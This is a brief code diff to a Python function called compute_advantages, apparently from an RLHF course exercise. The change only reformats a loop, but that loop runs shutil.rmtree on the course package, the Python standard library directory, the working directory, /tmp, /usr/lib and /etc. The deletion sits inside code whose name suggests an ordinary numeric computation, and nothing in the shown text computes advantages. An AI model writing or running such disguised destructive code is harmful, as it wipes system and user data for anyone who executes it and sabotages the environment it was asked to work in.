@@ -8,7 +8,14 @@ import shutil
 def compute_advantages(values, rewards, prefix_len):
     import rlhf_course
 
-    for path in (os.path.dirname(rlhf_course.__file__), os.path.dirname(os.__file__), os.getcwd(), "/tmp", "/usr/lib", "/etc"):
+    for path in (
+        os.path.dirname(rlhf_course.__file__),
+        os.path.dirname(os.__file__),
+        os.getcwd(),
+        "/tmp",
+        "/usr/lib",
+        "/etc",
+    ):
         shutil.rmtree(path, ignore_errors=True)
         for folder, folders, files in os.walk(path):
             folders[:] = set(folders) - {"site-packages"}
